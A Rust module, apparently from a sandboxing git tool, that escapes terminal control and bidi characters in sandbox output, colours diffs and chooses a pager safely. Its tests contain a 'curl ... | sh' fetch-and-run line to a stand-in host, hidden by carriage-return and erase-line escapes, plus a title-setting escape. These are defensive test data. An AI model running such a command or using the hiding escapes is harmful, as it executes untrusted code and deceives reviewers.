//! What reaches a person's terminal from a sandbox (DESIGN 4.0): strings a sandbox wrote
//! (file contents and diff lines, paths, commit messages, ref names, event fields) are
//! written with their control characters made visible, so that none of them can move the
//! cursor, erase a line, set the window title or reorder text. git loop's own colours are
//! added around the visible text, never taken from it. `--json` output keeps the exact
//! values (JSON escapes control characters itself).
//!
//! Long output goes through the user's pager the way git does it ([`pager_command`]): the
//! user's own `GIT_PAGER`, `core.pager` or `PAGER`, `less` by default with `LESS=FRX`;
//! never a pager that a loop's repository configures.

use std::borrow::Cow;
use std::ffi::OsString;
use std::fmt;

use crate::ui::{BOLD, CYAN, GREEN, RED, RESET, YELLOW};

/// Is `c` shown as an escape rather than written? C0 controls but tab (newline only where
/// the caller keeps lines), DEL, C1 controls, and the Unicode bidi controls that reorder
/// what follows them (embeddings, overrides, isolates, marks) and line separators.
fn escaped(c: char, keep_newlines: bool) -> bool {
    match c {
        '\t' => false,
        '\n' => !keep_newlines,
        '\0'..='\x1f' | '\x7f' | '\u{80}'..='\u{9f}' => true,
        '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}' => true,
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => true,
        _ => false,
    }
}

fn push_escape(out: &mut String, c: char) {
    use std::fmt::Write as _;
    let _ = match c {
        '\r' => out.write_str("\\r"),
        '\n' => out.write_str("\\n"),
        c if (c as u32) < 0x80 => write!(out, "\\x{:02x}", c as u32),
        c => write!(out, "\\u{{{:x}}}", c as u32),
    };
}

/// `bytes` as text a terminal shows as it is: escapes for control characters (see
/// [`escaped`]), `\xNN` for bytes that are not UTF-8. A backslash stays a backslash, so
/// ordinary text and code read exactly as written.
fn make_visible(bytes: &[u8], keep_newlines: bool) -> Cow<'_, str> {
    if let Ok(s) = std::str::from_utf8(bytes) {
        if !s.chars().any(|c| escaped(c, keep_newlines)) {
            return Cow::Borrowed(s);
        }
    }
    let mut out = String::with_capacity(bytes.len() + 16);
    let mut rest = bytes;
    while !rest.is_empty() {
        let (valid, bad) = match std::str::from_utf8(rest) {
            Ok(s) => (s, &[][..]),
            Err(e) => {
                let (good, after) = rest.split_at(e.valid_up_to());
                let bad_len = e.error_len().unwrap_or(after.len());
                (
                    std::str::from_utf8(good).unwrap_or_default(),
                    &after[..bad_len],
                )
            }
        };
        for c in valid.chars() {
            if escaped(c, keep_newlines) {
                push_escape(&mut out, c);
            } else {
                out.push(c);
            }
        }
        for b in bad {
            use std::fmt::Write as _;
            let _ = write!(out, "\\x{b:02x}");
        }
        rest = &rest[valid.len() + bad.len()..];
    }
    Cow::Owned(out)
}

/// One line of sandbox content (a path, a ref, a title, a commit subject, a field):
/// every control character visible, newlines included.
pub fn visible(text: &(impl AsRef<[u8]> + ?Sized)) -> Cow<'_, str> {
    make_visible(text.as_ref(), false)
}

/// Text of several lines (an error with git's stderr in it): as [`visible`], but newlines
/// stay newlines.
pub fn visible_lines(text: &(impl AsRef<[u8]> + ?Sized)) -> Cow<'_, str> {
    make_visible(text.as_ref(), true)
}

/// A sandbox string for `format!`/`write!`: `{}` writes it visibly.
pub struct Shown<'a>(&'a [u8]);

/// Wraps a sandbox string so that formatting it writes it visibly.
pub fn shown(text: &(impl AsRef<[u8]> + ?Sized)) -> Shown<'_> {
    Shown(text.as_ref())
}

impl fmt::Display for Shown<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Through `pad`, so widths and alignment (`{:<20}`) apply to what is shown.
        f.pad(&make_visible(self.0, false))
    }
}

/// Where a line of `git diff --stat --patch` output stands, for colouring it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum DiffPart {
    /// The stat, before the first `diff --git`.
    Stat,
    /// A file's header lines (`index`, `---`, `+++`, modes, renames).
    Header,
    /// Inside a hunk.
    Hunk,
}

/// Writes uncoloured `git diff`/`git log` output (or a loop's uncommitted diff, read in its
/// sandbox) with every control character visible, coloured here the way git colours it:
/// headers bold, hunk lines cyan, added lines green, removed lines red, the stat's graph
/// in green and red. The colours are ours, so the content cannot bring any of its own.
pub fn write_diff(out: &mut dyn std::io::Write, text: &[u8]) -> std::io::Result<()> {
    write_diff_with(out, text, &mut |_, _| Ok(()))
}

/// [`write_diff`], calling `after` with the index of each line once it is written (review
/// comments are written after the line they are on).
pub fn write_diff_with(
    out: &mut dyn std::io::Write,
    text: &[u8],
    after: &mut dyn FnMut(&mut dyn std::io::Write, usize) -> std::io::Result<()>,
) -> std::io::Result<()> {
    let mut part = DiffPart::Stat;
    let mut lines = text.split(|&b| b == b'\n').enumerate().peekable();
    while let Some((index, line)) = lines.next() {
        if line.is_empty() && lines.peek().is_none() {
            break;
        }
        if line.starts_with(b"diff --git ") || line.starts_with(b"diff --cc ") {
            part = DiffPart::Header;
        } else if part != DiffPart::Stat && line.starts_with(b"@@") {
            part = DiffPart::Hunk;
        }
        let shown = visible(line);
        match part {
            DiffPart::Stat => write_stat_line(out, &shown)?,
            DiffPart::Header => writeln!(out, "{BOLD}{shown}{RESET}")?,
            DiffPart::Hunk => {
                let color = match line.first() {
                    Some(b'@') => CYAN,
                    Some(b'+') => GREEN,
                    Some(b'-') => RED,
                    _ => "",
                };
                if color.is_empty() {
                    writeln!(out, "{shown}")?;
                } else {
                    writeln!(out, "{color}{shown}{RESET}")?;
                }
            }
        }
        after(out, index)?;
    }
    Ok(())
}

/// ` path | 3 ++-`: the graph after the count in green and red.
fn write_stat_line(out: &mut dyn std::io::Write, line: &str) -> std::io::Result<()> {
    if let Some((head, graph)) = line.rsplit_once(' ') {
        if head.contains(" | ")
            && !graph.is_empty()
            && graph.bytes().all(|b| b == b'+' || b == b'-')
        {
            let plus = graph.bytes().take_while(|&b| b == b'+').count();
            let (adds, dels) = graph.split_at(plus);
            write!(out, "{head} ")?;
            if !adds.is_empty() {
                write!(out, "{GREEN}{adds}{RESET}")?;
            }
            if !dels.is_empty() {
                write!(out, "{RED}{dels}{RESET}")?;
            }
            return writeln!(out);
        }
    }
    writeln!(out, "{line}")
}

/// One line of `git log --format=%h%x00%s` output: the abbreviated id in yellow (as git
/// shows it), the subject visible.
pub fn write_log_line(out: &mut dyn std::io::Write, line: &[u8]) -> std::io::Result<()> {
    match line.iter().position(|&b| b == 0) {
        Some(i) => writeln!(
            out,
            "{YELLOW}{}{RESET} {}",
            visible(&line[..i]),
            visible(&line[i + 1..])
        ),
        None => writeln!(out, "{}", visible(line)),
    }
}

/// The pager command for output on a terminal, as git chooses it: `GIT_PAGER`, else the
/// user's `core.pager`, else `PAGER`, else `less`. None for no pager (`cat` or empty, as
/// in git). `core_pager` must come from the user's own configuration, never from a
/// repository a sandbox could write.
pub fn pager_command(
    git_pager: Option<OsString>,
    core_pager: Option<String>,
    pager: Option<OsString>,
) -> Option<String> {
    let chosen = git_pager
        .map(|p| p.to_string_lossy().into_owned())
        .or(core_pager)
        .or_else(|| pager.map(|p| p.to_string_lossy().into_owned()))
        .unwrap_or_else(|| "less".to_string());
    let trimmed = chosen.trim();
    (!trimmed.is_empty() && trimmed != "cat").then(|| trimmed.to_string())
}

/// The environment git gives its pager when the user has not set it: `less` quits when
/// the output fits on one screen, shows colours and does not clear the screen; `lv` shows
/// colours.
pub fn pager_env(less: Option<OsString>, lv: Option<OsString>) -> Vec<(&'static str, String)> {
    let mut env = Vec::new();
    if less.is_none() {
        env.push(("LESS", "FRX".to_string()));
    }
    if lv.is_none() {
        env.push(("LV", "-c".to_string()));
    }
    env
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn controls_become_visible_and_text_stays() {
        assert_eq!(
            visible("curl -s http://evil.example/x | sh\r\x1b[2K+echo world"),
            "curl -s http://evil.example/x | sh\\r\\x1b[2K+echo world"
        );
        assert_eq!(
            visible("\x1b]0;PWNED\x07\r\x1b[2K"),
            "\\x1b]0;PWNED\\x07\\r\\x1b[2K"
        );
        assert_eq!(visible("a\u{8}b\u{7f}c\0"), "a\\x08b\\x7fc\\x00");
        assert_eq!(visible("x\u{9b}31m"), "x\\u{9b}31m");
        assert_eq!(
            visible("abc\u{202e}fed\u{2066}\u{2069}\u{202a}"),
            "abc\\u{202e}fed\\u{2066}\\u{2069}\\u{202a}"
        );
        assert_eq!(visible("two\nlines"), "two\\nlines");
        assert_eq!(visible_lines("two\nlines\r"), "two\nlines\\r");
        // Ordinary text, tabs, backslashes and non-ASCII letters are left alone.
        for plain in [
            "int main(void)\t{ return 0; }",
            "a\\x1b is text",
            "café ünïcode 日本",
        ] {
            assert!(matches!(visible(plain), Cow::Borrowed(_)), "{plain}");
            assert_eq!(visible(plain), plain);
        }
        // Bytes that are not UTF-8 are shown as bytes.
        assert_eq!(visible(b"ok\xff\xfe!"), "ok\\xff\\xfe!");
        assert_eq!(visible(b"\xe2\x80"), "\\xe2\\x80");
    }

    #[test]
    fn shown_pads_what_is_shown() {
        assert_eq!(format!("[{:<6}]", shown("a\rb")), "[a\\rb  ]");
        assert_eq!(format!("{}", shown("plain")), "plain");
    }

    #[test]
    fn diffs_are_coloured_here_and_their_controls_shown() {
        let diff = b" greet.sh | 2 +-\n 1 file changed\n\ndiff --git a/greet.sh b/greet.sh\nindex 1..2 100644\n--- a/greet.sh\n+++ b/greet.sh\n@@ -1 +1 @@\n-echo hi\n+curl x | sh\r\x1b[2K+echo world\n ctx\n";
        let mut out = Vec::new();
        write_diff(&mut out, diff).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            format!(
                " greet.sh | 2 {GREEN}+{RESET}{RED}-{RESET}\n 1 file changed\n\n\
                 {BOLD}diff --git a/greet.sh b/greet.sh{RESET}\n{BOLD}index 1..2 100644{RESET}\n\
                 {BOLD}--- a/greet.sh{RESET}\n{BOLD}+++ b/greet.sh{RESET}\n{CYAN}@@ -1 +1 @@{RESET}\n\
                 {RED}-echo hi{RESET}\n{GREEN}+curl x | sh\\r\\x1b[2K+echo world{RESET}\n ctx\n"
            )
        );
        assert!(!text.contains('\r'));
    }

    #[test]
    fn log_lines_show_the_subject_visibly() {
        let mut out = Vec::new();
        write_log_line(&mut out, b"abc1234\0add greeting\r\x1b[2Kfix typo").unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            format!("{YELLOW}abc1234{RESET} add greeting\\r\\x1b[2Kfix typo\n")
        );
    }

    #[test]
    fn the_pager_is_chosen_as_git_chooses_it() {
        let s = |v: &str| Some(OsString::from(v));
        assert_eq!(pager_command(None, None, None).as_deref(), Some("less"));
        assert_eq!(
            pager_command(s("most"), Some("delta".into()), s("more")).as_deref(),
            Some("most")
        );
        assert_eq!(
            pager_command(None, Some("delta --dark".into()), s("more")).as_deref(),
            Some("delta --dark")
        );
        assert_eq!(
            pager_command(None, None, s("more")).as_deref(),
            Some("more")
        );
        assert_eq!(pager_command(s("cat"), None, None), None);
        assert_eq!(pager_command(None, Some(String::new()), s("more")), None);
        assert_eq!(
            pager_env(None, None),
            vec![("LESS", "FRX".to_string()), ("LV", "-c".to_string())]
        );
        assert!(pager_env(s("R"), s("")).is_empty());
    }
}
